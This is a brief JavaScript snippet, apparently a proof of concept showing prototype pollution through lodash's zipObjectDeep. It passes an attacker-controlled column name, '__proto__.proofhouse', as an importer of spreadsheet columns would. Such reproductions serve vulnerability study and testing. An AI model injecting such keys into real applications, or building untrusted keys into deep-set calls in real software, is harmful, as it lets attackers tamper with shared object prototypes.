'use strict';
// A row of column names and a row of values become an object, as an importer of a spreadsheet would do it.
// The first column name comes from the attacker.
const _ = require('lodash');

const columns = ['__proto__.proofhouse', 'user.name'];
const values = ['polluted', 'eve'];
_.zipObjectDeep(columns, values);
